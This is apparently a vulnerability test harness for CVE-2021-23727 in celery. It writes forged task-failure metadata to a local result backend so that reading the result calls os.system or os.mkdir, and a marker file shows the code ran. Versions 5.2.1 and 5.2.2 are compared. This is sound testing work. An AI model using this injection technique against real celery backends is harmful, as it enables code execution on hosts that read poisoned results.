# /// vertice-probe
# id = "PYSEC-2021-858"
# aliases = ["CVE-2021-23727", "GHSA-q4xr-rc97-m4xx", "SNYK-PYTHON-CELERY-2314953"]
# package = "celery"
# summary = """\
#   A stored task failure names any callable as its exception class and celery calls it when the result is read, so \
#   who can write to the result backend runs code."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:H/PR:L/UI:N/S:U/C:H/I:H/A:H" }]
# cwe = ["CWE-77", "CWE-78"]
# kind = "rce"
# symbols = ["celery.Celery", "celery.result.AsyncResult", "celery.backends.base.Backend.exception_to_python"]
#
# [[affected]]
# package = "celery"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "5.2.2" }] }]
#
# [cases]
# attack = "reading a result whose stored exception is os.system writes a marker file"
# [cases.variants]
# dotted = "a dotted name reached through another module, called with a list of arguments"
# [cases.controls]
# failure = "a stored ValueError and a stored success are read back"
#
# [test]
# vulnerable = "5.2.1"
# fixed = "5.2.2"
# with = ["setuptools<70"]
# python = "<3.12"
# ///
"""CVE-2021-23727: a stored exception that is not one."""

import json
import os
import sys
import tempfile

BASE = tempfile.mkdtemp()
MARKER = os.path.join(BASE, "marker")


def read(meta):
    """Store the metadata as a worker would have done and read the result as a client does."""
    from celery import Celery

    store = os.path.join(BASE, "results")
    os.makedirs(store, exist_ok=True)
    app = Celery("probe", broker="memory://", backend="file://" + store)
    meta = dict({"task_id": "t1", "traceback": None, "children": [], "date_done": None}, **meta)
    app.backend.set(app.backend.get_key_for_task("t1"), json.dumps(meta))
    result = app.AsyncResult("t1")
    return result.state, result.result


def fail(module, name, message):
    return read({"status": "FAILURE", "result": {"exc_module": module, "exc_type": name, "exc_message": message}})


def judge(module, name, message):
    from celery.exceptions import SecurityError

    if failure()[0] != "works":
        raise RuntimeError("an ordinary result cannot be read")
    refusal = None
    try:
        fail(module, name, message)
    except SecurityError as error:
        refusal = str(error)
    if os.path.exists(MARKER):
        return "exploited", "%s.%s was called and made the marker" % (module, name)
    if refusal and "Expected an exception class" in refusal:
        return "blocked", "SecurityError: expected an exception class, got %s.%s" % (module, name)
    raise RuntimeError("neither called nor refused: %s" % refusal)


def attack():
    return judge("os", "system", "echo > " + MARKER)


def dotted():
    return judge("posixpath", "os.mkdir", [MARKER])


def failure():
    state, error = fail("builtins", "ValueError", ["no stock"])
    good = state == "FAILURE" and type(error) is ValueError and error.args == ("no stock",)
    good = good and read({"status": "SUCCESS", "result": {"sum": 3}}) == ("SUCCESS", {"sum": 3})
    return ("works", "ValueError('no stock') and {'sum': 3} read back") if good else ("broken", repr((state, error)))


CASES = {"attack": attack, "dotted": dotted, "failure": failure}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
